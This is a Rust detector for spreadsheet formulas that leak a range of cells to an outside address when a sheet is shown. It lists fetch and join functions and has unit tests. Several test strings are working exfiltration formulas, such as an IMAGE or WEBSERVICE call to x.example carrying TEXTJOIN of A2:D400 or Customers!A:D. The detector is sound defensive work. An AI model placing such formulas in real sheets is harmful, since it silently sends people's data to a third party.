//! Formulas of spreadsheets that send what stands in cells to an address.

/// Functions that fetch an address as soon as a sheet is shown.
const FETCH: &[&str] = &["IMAGE(", "IMPORTDATA(", "IMPORTFEED(", "IMPORTHTML(", "IMPORTXML(", "WEBSERVICE("];

/// Functions that make one text of many cells.
const JOINS: &[&str] = &["ARRAYTOTEXT(", "CONCAT(", "JOIN(", "QUERY(", "TEXTJOIN(", "TOCOL(", "TOROW("];

/// Whether the address that a formula fetches is made of a range of cells. One cell, as in a list of links, is everyday.
pub(super) fn sends_cells(text: &str) -> bool {
    let Some(formula) = text.trim_start().strip_prefix(['=', '+']) else { return false };
    let upper = formula.to_ascii_uppercase();
    FETCH.iter().any(|name| {
        upper.split(name).skip(1).any(|call| {
            let address =
                call.contains("HTTP") && call.contains('&') || call.contains("CONCAT") && call.contains("HTTP");
            address && (JOINS.iter().any(|join| call.contains(join)) || call.split(['&', '(', ')', ',']).any(is_range))
        })
    })
}

/// `A2:D400`, `Customers!A:D`
fn is_range(text: &str) -> bool {
    let cells = text.rsplit('!').next().unwrap_or(text).trim();
    let cell = |cell: &str| {
        !cell.is_empty()
            && cell.len() <= 12
            && cell.starts_with(|c: char| c.is_ascii_alphabetic() || c == '$')
            && cell.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'$')
    };
    cells.split_once(':').is_some_and(|(first, last)| cell(first) && cell(last))
}

#[cfg(test)]
mod tests {
    use super::sends_cells;

    #[test]
    fn addresses_are_made_of_many_cells() {
        for (text, expect) in [
            ("=IMAGE(\"https://x.example/i.png?d=\"&ENCODEURL(TEXTJOIN(\"|\",TRUE,A2:D400)))", true),
            ("=IMPORTXML(CONCATENATE(\"https://x.example/?v=\", JOIN(\",\", A1:A9)), \"//a\")", true),
            ("=WEBSERVICE(\"https://x.example/?d=\"&CONCAT(Customers!A:D))", true),
            ("=IMAGE(\"https://api.example.com/qr?data=\"&A2)", false),
            ("=IMPORTXML(\"https://quotes.example.com/\"&A2, \"//span\")", false),
            ("=IMPORTRANGE(\"https://docs.google.com/x\", \"A1:B2\")", false),
            ("=SUM(A1:A9)", false),
            ("use =IMAGE(\"https://x.example\"&A1:B2)", false),
        ] {
            assert_eq!(sends_cells(text), expect, "{text}");
        }
    }
}
